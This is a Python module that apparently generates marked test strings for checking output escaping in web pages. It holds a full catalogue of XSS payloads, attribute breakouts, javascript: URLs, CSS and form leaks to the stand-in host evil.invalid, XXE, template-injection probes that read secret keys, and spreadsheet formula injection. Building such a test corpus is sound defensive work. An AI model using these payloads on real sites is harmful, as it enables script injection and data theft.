"""Two hundred strings that would run, load or lead somewhere if one page forgot to write them as text.

``MARK`` in each stands for a word of its own, by which a page tells which field it came from; every element,
attribute or address that a string would make carries it. What runs calls ``boom``; what loads asks the host
``EVIL``, which no name server knows (RFC 6761, 6.4). None is longer than ``LONGEST``, so that short columns
take many of them.
"""

import itertools
import re

MARK = "MARK"
EVIL = "evil.invalid"
LONGEST = 120
_BOOM = "boom('MARK')"

ELEMENTS = (
    f"<script>{_BOOM}</script>",
    f"<ScRiPt/x>{_BOOM}</sCrIpT >",
    f"<script src=//{EVIL}/MARK></script>",
    f"<script type=module>{_BOOM}</script>",
    f"<img src=x onerror={_BOOM}>",
    f"<img/src='x'/onerror={_BOOM}>",
    f"<image src=x onerror={_BOOM}>",
    f"<svg onload={_BOOM}>",
    f"<svg/onload={_BOOM}//",
    f"<svg><script>{_BOOM}</script></svg>",
    f"<svg><animate onbegin={_BOOM} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{_BOOM} /><text y=9>MARK",
    "<svg><use href=data:image/svg+xml,MARK />",
    f"<svg><foreignObject><body onload={_BOOM}>",
    f"<math><mtext><mglyph><style><img src=x onerror={_BOOM}>",
    f"<math href=javascript:{_BOOM}>MARK</math>",
    f"<body onload={_BOOM}>",
    f"<body onpageshow={_BOOM}>",
    f"<input autofocus onfocus={_BOOM}>",
    f"<select autofocus onfocus={_BOOM}>",
    f"<textarea autofocus onfocus={_BOOM}>",
    f"<b tabindex=1 autofocus onfocus={_BOOM}>MARK</b>",
    f"<details open ontoggle={_BOOM}>",
    f"<video><source onerror={_BOOM}></video>",
    f"<audio src=x onerror={_BOOM}>",
    f"<video poster=//{EVIL}/MARK>",
    f"<marquee onstart={_BOOM}>MARK</marquee>",
    f"<object data=javascript:{_BOOM}>",
    f"<object data=//{EVIL}/MARK>",
    f"<embed src=javascript:{_BOOM}>",
    f"<iframe src=javascript:parent.{_BOOM}>",
    f"<iframe srcdoc='<script>parent.{_BOOM.replace(chr(39), chr(34))}</script>'>",
    f"<iframe onload={_BOOM}>",
    f"<b onmouseover={_BOOM}>MARK</b>",
    f"<b style=position:fixed;inset:0 onclick={_BOOM}>MARK",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_BOOM}>",
    f"<b onpointerenter={_BOOM} popover id=MARK>MARK",
    f"<template><img src=x onerror={_BOOM}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_BOOM}>'>",
    "<x-mark id=MARK contenteditable>MARK</x-mark>",
    "<b id=MARK name=MARK class=MARK>MARK</b>",
)
"""Each makes an element with the mark in its name, an attribute of it or its script."""

BREAKS = (
    '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>",
    "</noscript>", "</svg>", "</button></form>", "/>",
)  # fmt: skip
"""What ends the place a text may stand in."""
INSIDE = (ELEMENTS[0], ELEMENTS[4], ELEMENTS[7], ELEMENTS[22])

HANDLERS = ("onmouseover", "onfocus", "onanimationend", "onpointerdown", "onbeforetoggle")
QUOTES = ('" {} x="', "' {} x='", '"{} ', " {} ")
ATTRIBUTES = (
    *(
        quote.format(f"autofocus {handler}={_BOOM.replace(chr(39), '/')}")
        for handler, quote in itertools.product(HANDLERS, QUOTES)
    ),
    '" style="background:url(//' + EVIL + '/MARK)" x="',
    '" href="javascript:boom(/MARK/)" x="',
    '" formaction="javascript:boom(/MARK/)" type="submit" x="',
    '" srcset="//' + EVIL + '/MARK" x="',
    '" id="MARK" name="MARK" form="MARK" x="',
)
"""Out of a value, into an attribute of the same element."""

ADDRESSES = (
    "javascript:boom('MARK')",
    "JaVaScRiPt:boom('MARK')//",
    "java\tscript:boom('MARK')",
    "java\nscript:boom('MARK')",
    "&#106;avascript:boom('MARK')",
    "javascript&colon;boom('MARK')",
    "javascript&#58;boom&lpar;'MARK'&rpar;",
    "javascript://%0aboom('MARK')",
    "javascript:'<script>boom(`MARK`)</script>'",
    "data:text/html,<script>boom('MARK')</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=#MARK",
    "data:image/svg+xml,<svg onload=boom('MARK') xmlns='http://www.w3.org/2000/svg'/>",
    "vbscript:boom(/MARK/)",
    "blob:https://" + EVIL + "/MARK",
    "filesystem:https://" + EVIL + "/MARK",
    "//" + EVIL + "/MARK",
    "/\\" + EVIL + "/MARK",
    "https://" + EVIL + "/MARK",
    "http:" + EVIL + "/MARK",
    "https://localhost@" + EVIL + "/MARK",
    "../../dang-xuat?MARK",
    "?lang=en&next=//" + EVIL + "/MARK",
)
"""Harmless as text; as an address they run something or leave this host."""

INJECTIONS = (
    "<base href=//" + EVIL + "/MARK/>",
    "<base target=MARK>",
    "<meta http-equiv=refresh content=0;url=//" + EVIL + "/MARK>",
    "<meta http-equiv=refresh content=\"0;javascript:boom('MARK')\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' MARK\">",
    "<meta http-equiv=Set-Cookie content=session=MARK>",
    "<meta name=referrer content=unsafe-url id=MARK>",
    "<link rel=stylesheet href=//" + EVIL + "/MARK>",
    "<link rel=prefetch href=//" + EVIL + "/MARK>",
    "<link rel=manifest href=data:,MARK>",
    "<style>@import'//" + EVIL + "/MARK';</style>",
    "<style>input[value^=a]{background:url(//" + EVIL + "/MARK)}</style>",
    "<form action=//" + EVIL + "/MARK><button>MARK",
    "<form id=MARK></form><button form=MARK formaction=javascript:boom('MARK')>MARK",
    "<input name=csrf_token value=MARK>",
    "<input type=hidden name=request_id value=MARK>",
    "<a href=javascript:boom('MARK')>MARK</a>",
    "<a href='jav&#x0A;ascript:boom(`MARK`)'>MARK</a>",
    "<a href=//" + EVIL + "/MARK target=_blank>MARK</a>",
    "<a ping=//" + EVIL + "/MARK href=/>MARK</a>",
    "<img src=//" + EVIL + "/MARK>",
    "<img src='//" + EVIL + "/MARK?",
    "<area href=javascript:boom('MARK')>",
    "<dialog open id=MARK>MARK</dialog>",
    "<!--MARK><img src=x onerror=boom('MARK')-->",
    "<!--><img src=x onerror=boom('MARK')>",
    "<![CDATA[><img src=x onerror=boom('MARK')>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='//" + EVIL + "/MARK'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '//" + EVIL + "/MARK'>]>&y;MARK",
    "</body></html><p id=MARK>MARK",
    "<plaintext id=MARK>",
)

CODE = (
    "'-boom('MARK')-'",
    '"-boom("MARK")-"',
    "\\'-boom('MARK');//",
    '\\";boom("MARK");//',
    '"}];boom("MARK");//',
    "*/boom('MARK');/*",
    "`${boom('MARK')}`",
    "</script/x><script>boom('MARK')</script>",
    "<!--<script>MARK",
    "\u2028boom('MARK')\u2029//",
    '","__proto__":{"MARK":"<img src=x onerror=boom()>"},"x":"',
    "};document.location='//" + EVIL + "/MARK';{",
    "}body{background:url(//" + EVIL + "/MARK)}",
    "expression(boom('MARK'))",
    "\\3c script\\3e boom('MARK')",
)
"""Out of a string in a script, in JSON or in a style."""

TEMPLATES = (
    "{{7*7}}MARK",
    "{{ config.SECRET_KEY }}MARK",
    "{% for x in (1,2) %}MARK{% endfor %}",
    "{{ ''.__class__.__mro__ }}MARK",
    "{{'<img src=x onerror=boom()>'|safe}}MARK",
    "${7*7}MARK",
    "#{7*7}MARK",
    "<%= 7*7 %>MARK",
    "[[7*7]]MARK",
    "{0.__class__}MARK{n}{name}",
    "%(name)s%s%nMARK",
    "$nameMARK${name}",
    "{MARK",
)
"""What a second reading as a template would work out."""

ENCODED = (
    "&lt;script&gt;boom('MARK')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=boom('MARK')&amp;gt;",
    "&#60;img src=x onerror=boom('MARK')&#62;",
    "&#x3c;img src=x onerror=boom('MARK')&#x3E",
    "&#0000060img src=x onerror=boom('MARK')&gt",
    "&quot;onfocus=boom('MARK')&#x20;x=&quot;",
    "&NewLine;&Tab;&nvlt;MARK&bne;&amp",
    "%3Cscript%3Eboom('MARK')%3C/script%3E",
    "%253Cimg%20src=x%20onerror=boom('MARK')%253E",
    "\\u003cscript\\u003eboom('MARK')\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=boom('MARK')\\x3e",
    "+ADw-script+AD4-boom('MARK')+ADw-/script+AD4-",
    "\uff1cscript\uff1eboom('MARK')\uff1c/script\uff1e",
    "\ufe64img src=x onerror=boom('MARK')\ufe65",
    "\u2039img src=x onerror=boom('MARK')\u203a",
    "\u02baonfocus=boom('MARK') x=\u02ba",
    "\u202e>MARK=rorreno x=crs gmi<\u202c",
    "<scr\u200bipt>boom('MARK')</scr\u200bipt>",
    "<\u0130mg src=x onerror=boom('MARK')>",
    "<img src=x onerror\u00a0=boom('MARK')>",
    "<img\u3000src=x\u3000onerror=boom('MARK')>",
    "<scr<script>ipt>boom('MARK')</scr</script>ipt>",
    '=HYPERLINK("javascript:boom(\'MARK\')","MARK")',
    "=cmd|' /C calc'!A0MARK",
    "@SUM(1+1)*MARK",
    "-2+3+MARK",
    "[MARK](javascript:boom('MARK'))",
    '![MARK](x"onerror="boom(`MARK`))',
)
"""Signs that become others when a text is decoded or folded once too often, and what a spreadsheet reads."""


def _all() -> tuple[str, ...]:
    ends, inside = len(BREAKS), len(INSIDE)
    broken = (BREAKS[n % ends] + INSIDE[(n + n // ends) % inside] for n in range(25))
    return (
        *ELEMENTS, *broken, *ATTRIBUTES, *ADDRESSES, *INJECTIONS, *CODE, *TEMPLATES,
        *ENCODED,
    )  # fmt: skip


PAYLOADS = _all()
_MARKS = re.compile(r"zq\d{5}", re.IGNORECASE)


def marks_in(text: str) -> set[str]:
    """The marks of sown strings in a text, whatever their case became."""
    return {one.lower() for one in _MARKS.findall(text)}


def payload(number: int, mark: str) -> str:
    """One of the strings, under a mark of its own."""
    return PAYLOADS[number % len(PAYLOADS)].replace(MARK, mark)
